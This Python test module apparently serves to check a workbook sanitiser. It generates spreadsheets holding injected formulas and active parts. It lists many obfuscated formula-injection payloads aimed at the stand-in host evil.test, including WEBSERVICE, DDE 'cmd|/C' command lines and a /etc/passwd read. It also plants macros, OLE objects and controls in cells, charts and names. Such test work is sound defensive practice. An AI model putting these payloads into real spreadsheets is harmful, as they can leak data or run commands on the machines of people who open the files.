"""Workbooks in which something acts by itself, made from a faulty form: one thing in one place each."""

from __future__ import annotations

import functools
from collections.abc import Mapping
from xml.sax.saxutils import quoteattr

from tests.checks.catalogue import TARGETS, edit, valid_form
from tests.workbook.odd_packages import MAIN, OFFICE, unzip_parts, zip_parts

Parts = dict[str, bytes]
TARGETS_PART = "xl/worksheets/sheet2.xml"
GUIDE_PART = "xl/worksheets/sheet1.xml"  # the instructions: nobody reads figures there
_X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
_XM = "http://schemas.microsoft.com/office/excel/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_CHART = "http://schemas.openxmlformats.org/drawingml/2006/chart"
_DRAWN = "http://schemas.openxmlformats.org/drawingml/2006/main"
_PLACED = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
_TYPE = "application/vnd.openxmlformats-officedocument"

# As they stand in the file, entities and all -> a word that must be in no part of the copy.
LIVE_FORMULAS = {
    '_xlfn.WEBSERVICE("http://evil.test/")': "evil.test",
    '_xlfn.WEB<!-- -->SERVICE("http://evil.test/")': "evil.test",
    '_xlfn.WEB<?a b?>SERVICE("http://evil.test/")': "evil.test",
    '_xlfn.WEB&#83;ERVICE("http://evil.test/")': "evil.test",
    '_xlfn.WEBSERVICE&#10;("http://evil.test/")': "evil.test",
    '_xlfn.WEBSERVICE<![CDATA[("http://evil.test/")]]>': "evil.test",
    '_xlfn.ＷEBSERVICE("http://evil.test/")': "evil.test",
    '"<!-- -->&amp;WEBSERVICE(&quot;http://evil.test/&quot;)&amp;<!-- -->"': "evil.test",
    '_xlfn.IMAGE("http://evil.test/a.png")': "evil.test",
    'HYPERLINK("http://evil.test/","x")': "evil.test",
    'FILTERXML("<a/>","evil.test")'.replace("<", "&lt;"): "evil.test",
    'RTD("evil.test",,"a")': "evil.test",
    '_xlfn.STOCKHISTORY("evil.test",1)': "evil.test",
    'CUBEMEMBER("evil.test","a")': "evil.test",
    'CALL("evil.test","a","J")': "evil.test",
    'REGISTER.ID("evil.test","a")': "evil.test",
    'EX<!-- -->EC("evil.test")': "evil.test",
    "INDIRECT(\"'file:///evil.test/x.ods'#$Sheet1.A1\")": "evil.test",
    "'\\\\evil.test\\s\\[x.xlsx]Sheet1'!A1": "evil.test",
    "'http://evil.test/[x.xlsx]Sheet1'!A1": "evil.test",
    "'file:///evil.test/x.ods'#$Sheet1.A1": "evil.test",
    "[evil.test.xlsx]Sheet1!A1": "evil.test",
    "[1]evil.test!A1": "evil.test",
    "[<!-- -->1]evil.test!A1": "evil.test",
    "'[1]evil.test'!A1": "evil.test",
    "[1]!evil.test": "evil.test",
    "cmd|'/C evil.test'!A0": "evil.test",
    "cmd|<!-- -->'/C evil.test'!A0": "evil.test",
    "cmd | '/C evil.test' ! A0": "evil.test",
    "'cmd'|'/C evil.test'!A0": "evil.test",
    "'cmd|/C evil.test'!A1": "evil.test",
    'DDE("soffice";"/etc/passwd";"evil.test")': "evil.test",
    'SUM(A1)+evil.test("a")': "evil.test",
    "of:=[.A1]+evil.test": "evil.test",
    f"A1+{'1' * 9_000}": "1" * 9_000,
}


@functools.cache
def _faulty_parts() -> Mapping[str, bytes]:
    def spoil(book: object) -> None:
        book[TARGETS]["F8"].value = "khoảng 40"  # type: ignore[index]

    return unzip_parts(edit(valid_form(), spoil))


def faulty_parts() -> Parts:
    """A form with one fault, F8 of TARGETS."""
    return dict(_faulty_parts())


def insert(parts: Parts, name: str, before: str, text: str) -> None:
    """Text put in front of the first `before` of a part."""
    content = parts[name].decode()
    assert before in content
    parts[name] = content.replace(before, text + before, 1).encode()


def add_part(parts: Parts, name: str, content: str | bytes, content_type: str) -> None:
    parts[name] = content.encode() if isinstance(content, str) else content
    override = f'<Override PartName="/{name}" ContentType="{content_type}"/>'
    insert(parts, "[Content_Types].xml", "</Types>", override)


def relate(parts: Parts, source: str, relation_id: str, kind: str, target: str, *, is_external: bool = False) -> None:
    """A relation of a part, of the package for ""; `kind` is a word of Office's own or a whole address."""
    folder, _, name = source.rpartition("/")
    relations = f"{folder}/_rels/{name}.rels" if folder else "_rels/.rels"
    mode = ' TargetMode="External"' if is_external else ""
    address = kind if kind.startswith("http") else f"{OFFICE}/{kind}"
    parts.setdefault(relations, f'<Relationships xmlns="{_RELATIONS}"></Relationships>'.encode())
    one = f'<Relationship Id="{relation_id}" Type="{address}" Target={quoteattr(target)}{mode}/>'
    insert(parts, relations, "</Relationships>", one)


# --- formulas in every place there is for one ----------------------------------------------------------------------


def _in_a_cell(parts: Parts, formula: str) -> None:
    cell = f'<row r="900"><c r="A900" t="str"><f>{formula}</f><v>x</v></c></row>'
    insert(parts, GUIDE_PART, "</sheetData>", cell)


def _in_shared_cells(parts: Parts, formula: str) -> None:
    cells = f'<c r="A900"><f t="shared" ref="A900:B900" si="0">{formula}</f><v>1</v></c>'
    cells += '<c r="B900"><f t="shared" si="0"/><v>2</v></c>'
    insert(parts, GUIDE_PART, "</sheetData>", f'<row r="900">{cells}</row>')


def _in_a_name(parts: Parts, formula: str) -> None:
    insert(parts, "xl/workbook.xml", "</definedNames>", f'<definedName name="ten">{formula}</definedName>')


def _in_a_validation(parts: Parts, formula: str) -> None:
    rule = f'<dataValidation type="custom" sqref="A1"><formula1>{formula}</formula1></dataValidation>'
    rule += f'<dataValidation type="whole" sqref="A2"><formula1>1</formula1><formula2>{formula}</formula2>'
    rules = f'<dataValidations count="2">{rule}</dataValidation></dataValidations>'
    insert(parts, GUIDE_PART, "<pageMargins", rules)


def _in_a_format(parts: Parts, formula: str) -> None:
    rules = f'<cfRule type="expression" priority="1"><formula>{formula}</formula></cfRule>'
    insert(parts, GUIDE_PART, "<pageMargins", f'<conditionalFormatting sqref="A1">{rules}</conditionalFormatting>')


def _in_new_rules(parts: Parts, formula: str) -> None:
    """Rules as Excel writes them since 2010, and a line of sparks."""
    inside = f"<xm:f>{formula}</xm:f>"
    scale = f'<x14:dataBar><x14:cfvo type="formula">{inside}</x14:cfvo><x14:cfvo type="max"/></x14:dataBar>'
    extensions = (
        f'<x14:dataValidations count="1"><x14:dataValidation type="list"><x14:formula1>{inside}</x14:formula1>'
        "<xm:sqref>A1</xm:sqref></x14:dataValidation></x14:dataValidations>",
        "<x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type='dataBar' id='{A}'>"
        f"{scale}</x14:cfRule><xm:sqref>A1</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings>",
        f"<x14:sparklineGroups><x14:sparklineGroup><x14:sparklines><x14:sparkline>{inside}<xm:sqref>A1</xm:sqref>"
        "</x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups>",
    )
    found = "".join(
        f'<ext uri="{{{n}}}" xmlns:x14="{_X14}" xmlns:xm="{_XM}">{e}</ext>' for n, e in enumerate(extensions)
    )
    insert(parts, GUIDE_PART, "</worksheet>", f"<extLst>{found}</extLst>")


def _beside_a_formula(parts: Parts, formula: str) -> None:
    inside = f'<x14:formula1 xmlns:xm="{_XM}"><xm:f>1</xm:f>{formula}</x14:formula1>'
    rule = f'<x14:dataValidation type="list" xmlns:x14="{_X14}">{inside}</x14:dataValidation>'
    insert(
        parts,
        GUIDE_PART,
        "</worksheet>",
        f'<extLst><ext uri="{{A}}"><dataValidations>{rule}</dataValidations></ext></extLst>',
    )


def _in_a_table(parts: Parts, formula: str) -> None:
    column = f'<tableColumn id="1" name="a" totalsRowFunction="custom"><calculatedColumnFormula>{formula}'
    column += f"</calculatedColumnFormula><totalsRowFormula>{formula}</totalsRowFormula></tableColumn>"
    table = f'<table xmlns="{MAIN}" id="1" name="b" displayName="b" ref="A900:A902" totalsRowCount="1"><tableColumns'
    add_part(
        parts,
        "xl/tables/table1.xml",
        f'{table} count="1">{column}</tableColumns></table>',
        f"{_TYPE}.spreadsheetml.table+xml",
    )
    relate(parts, GUIDE_PART, "rId91", "table", "/xl/tables/table1.xml")
    part = f'<tableParts count="1"><tablePart xmlns:r="{OFFICE}" r:id="rId91"/></tableParts>'
    insert(parts, GUIDE_PART, "</worksheet>", part)


def _in_a_chart(parts: Parts, formula: str) -> None:
    values = '<c:numCache><c:ptCount val="1"/><c:pt idx="0"><c:v>7</c:v></c:pt></c:numCache>'
    series = f"<c:ser><c:idx val='0'/><c:val><c:numRef><c:f>{formula}</c:f>{values}</c:numRef></c:val></c:ser>"
    chart = f'<c:chartSpace xmlns:c="{_CHART}"><c:chart><c:plotArea><c:barChart>{series}</c:barChart></c:plotArea>'
    add_part(parts, "xl/charts/chart1.xml", f"{chart}</c:chart></c:chartSpace>", f"{_TYPE}.drawingml.chart+xml")
    frame = (
        f'<xdr:graphicFrame macro=""><a:graphic><a:graphicData uri="{_CHART}"><c:chart r:id="rId1" xmlns:c="{_CHART}"/>'
    )
    add_drawing(parts, f"{frame}</a:graphicData></a:graphic></xdr:graphicFrame>")
    relate(parts, "xl/drawings/drawing1.xml", "rId1", "chart", "../charts/chart1.xml")


def _in_a_shape(parts: Parts, formula: str) -> None:
    text = formula.replace("<", "&lt;").replace('"', "&quot;")
    add_drawing(parts, f'<xdr:sp macro="" textlink="{text}"><xdr:spPr/></xdr:sp>')


def add_drawing(parts: Parts, inside: str) -> None:
    """A drawing on the sheet of instructions, with one thing in it."""
    anchor = f"<xdr:absoluteAnchor>{inside}<xdr:clientData/></xdr:absoluteAnchor>"
    drawing = f'<xdr:wsDr xmlns:xdr="{_PLACED}" xmlns:a="{_DRAWN}" xmlns:r="{OFFICE}">{anchor}</xdr:wsDr>'
    add_part(parts, "xl/drawings/drawing1.xml", drawing, f"{_TYPE}.drawing+xml")
    relate(parts, GUIDE_PART, "rId90", "drawing", "/xl/drawings/drawing1.xml")
    insert(parts, GUIDE_PART, "</worksheet>", f'<drawing xmlns:r="{OFFICE}" r:id="rId90"/>')


PLACES = {
    "a cell": _in_a_cell,
    "shared cells": _in_shared_cells,
    "a name": _in_a_name,
    "a validation": _in_a_validation,
    "a format": _in_a_format,
    "new rules": _in_new_rules,
    "beside a formula": _beside_a_formula,
    "a table": _in_a_table,
    "a chart": _in_a_chart,
    "a shape": _in_a_shape,
}


def with_formula(place: str, formula: str) -> bytes:
    """A faulty form with this formula, as XML, in one of PLACES."""
    parts = faulty_parts()
    PLACES[place](parts, formula)
    return zip_parts(parts)


# --- parts that act ------------------------------------------------------------------------------------------------

# kind of relation, its source, name of the part, and what stands in the source for it
_SHEET_END, _BOOK_END = "</worksheet>", "</workbook>"
_MICROSOFT = "http://schemas.microsoft.com/office"
LIVE_PARTS: dict[str, tuple[str, str, str, str]] = {
    "macros": (f"{_MICROSOFT}/2006/relationships/vbaProject", "xl/workbook.xml", "xl/vbaProject.bin", ""),
    "macros under another name": (f"{_MICROSOFT}/2006/relationships/vbaProject", "xl/workbook.xml", "xl/a.xml", ""),
    "link": (
        "externalLink",
        "xl/workbook.xml",
        "xl/externalLinks/externalLink1.xml",
        "<externalReferences><externalReference r:id='rId77'/></externalReferences>",
    ),
    "connections": ("connections", "xl/workbook.xml", "xl/connections.xml", ""),
    "pivot cache": (
        "pivotCacheDefinition",
        "xl/workbook.xml",
        "xl/pivotCache/pivotCacheDefinition1.xml",
        "<pivotCaches><pivotCache cacheId='1' r:id='rId77'/></pivotCaches>",
    ),
    "data model": (f"{_MICROSOFT}/2011/relationships/powerPivotData", "xl/workbook.xml", "xl/model/item.data", ""),
    "richly valued": (f"{_MICROSOFT}/2017/06/relationships/rdRichValue", "xl/workbook.xml", "xl/richData/a.xml", ""),
    "what was bound": ("volatileDependencies", "xl/workbook.xml", "xl/volatileDependencies.xml", ""),
    "custom data": ("customXml", "xl/workbook.xml", "customXml/item1.xml", ""),
    "control": (
        "control",
        GUIDE_PART,
        "xl/activeX/activeX1.xml",
        "<controls><control shapeId='1' r:id='rId77' name='a'/></controls>",
    ),
    "form control": (
        "ctrlProp",
        GUIDE_PART,
        "xl/ctrlProps/ctrlProp1.xml",
        "<controls><control shapeId='1' r:id='rId77' name='a'/></controls>",
    ),
    "object": (
        "oleObject",
        GUIDE_PART,
        "xl/embeddings/oleObject1.bin",
        "<oleObjects><oleObject progId='Package' shapeId='1' r:id='rId77'/></oleObjects>",
    ),
    "object of odd case": ("OLEOBJECT", GUIDE_PART, "XL/Embeddings/OleObject1.BIN", ""),
    "workbook inside": ("package", GUIDE_PART, "xl/embeddings/a.xlsx", ""),
    "query": ("queryTable", GUIDE_PART, "xl/queryTables/queryTable1.xml", ""),
    "pivot table": ("pivotTable", GUIDE_PART, "xl/pivotTables/pivotTable1.xml", ""),
    "slicer": (
        f"{_MICROSOFT}/2007/relationships/slicer",
        GUIDE_PART,
        "xl/slicers/slicer1.xml",
        "<extLst><ext uri='{A}'><a:slicerList xmlns:a='urn:a'><a:slicer r:id='rId77'/></a:slicerList></ext></extLst>",
    ),
    "printer": ("printerSettings", GUIDE_PART, "xl/printerSettings/printerSettings1.bin", ""),
    "program as a picture": ("image", GUIDE_PART, "xl/media/image1.png", "<picture r:id='rId77'/>"),
    "buttons": (f"{_MICROSOFT}/2006/relationships/ui/extensibility", "", "customUI/customUI.xml", ""),
    "pane": (f"{_MICROSOFT}/2011/relationships/webextensiontaskpanes", "", "xl/webextensions/a.xml", ""),
    "not yet invented": ("http://evil.test/relationships/anything", "xl/workbook.xml", "xl/anything.xml", ""),
}
PROGRAM = b"MZ evil"


def with_part(thing: str) -> bytes:
    """A faulty form with one of LIVE_PARTS."""
    kind, source, name, reference = LIVE_PARTS[thing]
    parts = faulty_parts()
    add_part(parts, name, PROGRAM, "application/octet-stream")
    relate(parts, source, "rId77", kind, f"/{name}")
    if reference:
        end = _SHEET_END if source == GUIDE_PART else _BOOK_END
        insert(parts, source, end, reference.replace(" r:id=", f" xmlns:r='{OFFICE}' r:id="))
    return zip_parts(parts)
